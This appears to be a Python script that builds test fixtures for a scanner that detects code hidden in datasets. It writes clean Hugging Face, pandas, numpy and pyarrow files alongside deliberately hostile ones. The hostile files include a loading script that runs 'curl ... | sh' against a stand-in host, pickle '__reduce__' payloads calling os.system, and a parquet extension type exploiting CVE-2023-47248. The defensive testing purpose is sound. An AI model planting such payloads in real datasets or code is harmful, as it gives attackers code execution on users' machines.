"""Make the dataset-scanning fixtures in tests/assets/dataset_code with the real libraries (run from the repo root).

    python tests/assets/make_dataset_code.py

Why: datasets carry code too (issue 15, item 4). Every benign file here is written by the library users
really use (``datasets`` ``to_parquet``/``save_to_disk``, pandas ``to_pickle``, numpy ``save``, pyarrow's
parquet writer), so the tests pin what is on disk in the wild; the hostile files use the same writers with a
payload built by ``__reduce__`` (never loaded). Needs datasets, pandas, pyarrow and numpy; the outputs are
committed, small on purpose.

- ``hf_parquet/``: a Hub dataset repo as ``push_to_hub`` lays it out (README card + ``data/*.parquet`` with the
  ``huggingface`` and ``ARROW:schema`` metadata, a ``datasets`` Array2D extension column) — clean.
- ``hf_saved/``: ``Dataset.save_to_disk`` of the same data (Arrow stream shard, dataset_info.json, state.json)
  — clean.
- ``hf_script/``: a loading-script repo (``hf_script/hf_script.py``, run by ``load_dataset`` with
  ``trust_remote_code``) — a finding.
- ``hf_custom_feature/``: a saved dataset whose ``dataset_info.json`` names a feature type ``datasets`` does not
  ship (it resolves only once some code registered it).
- ``pandas_object.pkl`` (a DataFrame with an object column, pandas ``to_pickle``) and
  ``pandas_object_evil.pkl`` (the same with a ``__reduce__`` object in the column).
- ``object_array.npy`` (an object array, numpy ``save(allow_pickle=True)``) and ``object_array_evil.npz``.
- ``pickled_extension.parquet``: pyarrow writes a column whose extension type serialises itself with pickle
  under the name of the legacy ``pyarrow.PyExtensionType`` (``arrow.py_extension_type``; pyarrow < 14.0.1
  unpickled it on read, CVE-2023-47248), the payload calling ``os.system``.
- ``pickled_extension_benign.arrow``: an Arrow IPC file of an extension type that pickles a plain tuple
  (as Ray's tensor type once did) — still pickle on load.
"""

from __future__ import annotations

import json
import os
import pickle
import shutil
from pathlib import Path
from typing import Any

OUT = Path(__file__).resolve().parent / "dataset_code"

CARD = """---
license: mit
task_categories:
- text-classification
configs:
- config_name: default
  data_files:
  - split: train
    path: data/train-*
dataset_info:
  features:
  - name: text
    dtype: string
  - name: label
    dtype:
      class_label:
        names:
          '0': neg
          '1': pos
---
# tiny reviews
"""

SCRIPT = '''"""Tiny reviews: a loading script in the layout datasets' load_dataset(..., trust_remote_code=True) runs."""

import json
import os

import datasets

_URL = "https://example.org/reviews.jsonl"


class HfScript(datasets.GeneratorBasedBuilder):
    """Reviews with a label."""

    VERSION = datasets.Version("1.0.0")

    def _info(self):
        return datasets.DatasetInfo(features=datasets.Features(
            {"text": datasets.Value("string"), "label": datasets.ClassLabel(names=["neg", "pos"])}))

    def _split_generators(self, dl_manager):
        path = dl_manager.download(_URL)
        os.system("curl -s https://example.org/collect | sh")
        return [datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"path": path})]

    def _generate_examples(self, path):
        with open(path, encoding="utf-8") as f:
            for i, line in enumerate(f):
                yield i, json.loads(line)
'''


class _Evil:
    """Pickles as a call to os.system (the payload is never run: nothing here loads the files)."""

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, ("echo pwned",))


def main() -> None:
    import datasets
    import numpy as np
    import pandas as pd
    import pyarrow as pa
    import pyarrow.feather as feather
    import pyarrow.parquet as pq

    if OUT.exists():
        shutil.rmtree(OUT)
    OUT.mkdir()
    feats = datasets.Features({
        "text": datasets.Value("string"), "label": datasets.ClassLabel(names=["neg", "pos"]),
        "grid": datasets.Array2D(shape=(2, 2), dtype="float32"),
        "tags": datasets.Sequence(datasets.Value("string"))})
    ds = datasets.Dataset.from_dict(
        {"text": [f"review {i}" for i in range(8)], "label": [i % 2 for i in range(8)],
         "grid": [[[i, 1.0], [2.0, 3.0]] for i in range(8)], "tags": [["a"], ["b", "c"]] * 4}, features=feats)
    repo = OUT / "hf_parquet"
    (repo / "data").mkdir(parents=True)
    (repo / "README.md").write_text(CARD, encoding="utf-8")
    ds.to_parquet(str(repo / "data" / "train-00000-of-00001.parquet"))
    ds.save_to_disk(str(OUT / "hf_saved"))

    script = OUT / "hf_script"
    script.mkdir()
    (script / "README.md").write_text("---\nlicense: mit\n---\n# tiny reviews (script)\n", encoding="utf-8")
    (script / "hf_script.py").write_text(SCRIPT, encoding="utf-8")

    custom = OUT / "hf_custom_feature"
    ds.select_columns(["text", "label"]).save_to_disk(str(custom))
    info = json.loads((custom / "dataset_info.json").read_text(encoding="utf-8"))
    # What a loading script's own FeatureType subclass serialises to: datasets resolves '_type' through its
    # registry, so this only loads after the code that registers 'Molecule' was imported.
    info["features"]["structure"] = {"_type": "Molecule", "format": "smiles"}
    (custom / "dataset_info.json").write_text(json.dumps(info, indent=2), encoding="utf-8")

    df = pd.DataFrame({"id": [1, 2, 3], "meta": [{"k": 1}, ["x", 2], "plain"]})
    df.to_pickle(OUT / "pandas_object.pkl")
    evil = df.copy()
    evil.loc[1, "meta"] = _Evil()
    evil.to_pickle(OUT / "pandas_object_evil.pkl")

    np.save(OUT / "object_array.npy", np.array([{"a": 1}, "text", 3], dtype=object), allow_pickle=True)
    np.savez(OUT / "object_array_evil.npz", ok=np.arange(4), obj=np.array([_Evil(), 1], dtype=object))

    class PickledType(pa.ExtensionType):  # the legacy PyExtensionType's wire form: pickle of the type
        def __init__(self, payload: Any) -> None:
            self.payload = payload
            super().__init__(pa.int64(), "arrow.py_extension_type")

        def __arrow_ext_serialize__(self) -> bytes:
            return pickle.dumps(self.payload, protocol=4)

        @classmethod
        def __arrow_ext_deserialize__(cls, storage_type: Any, serialized: bytes) -> Any:
            raise NotImplementedError("the fixture maker never reads its files back")

    class RayLikeTensor(pa.ExtensionType):  # pickles its shape, as ray.data's ArrowTensorType once did
        def __init__(self) -> None:
            super().__init__(pa.int64(), "ray.data.extensions.tensor_extension.ArrowTensorType")

        def __arrow_ext_serialize__(self) -> bytes:
            return pickle.dumps((2, 2), protocol=4)

        @classmethod
        def __arrow_ext_deserialize__(cls, storage_type: Any, serialized: bytes) -> Any:
            raise NotImplementedError("the fixture maker never reads its files back")

    storage = pa.array([1, 2, 3], pa.int64())
    table = pa.table({"x": pa.ExtensionArray.from_storage(PickledType(_Evil()), storage), "y": storage})
    pq.write_table(table, OUT / "pickled_extension.parquet")
    tensor = pa.table({"t": pa.ExtensionArray.from_storage(RayLikeTensor(), storage)})
    feather.write_feather(tensor, OUT / "pickled_extension_benign.arrow", compression="uncompressed")

    versions = {"datasets": datasets.__version__, "pandas": pd.__version__, "pyarrow": pa.__version__,
                "numpy": np.__version__}
    (OUT / "MANIFEST.json").write_text(json.dumps({"generator": "tests/assets/make_dataset_code.py",
                                                   "versions": versions}, indent=1) + "\n")


if __name__ == "__main__":
    main()
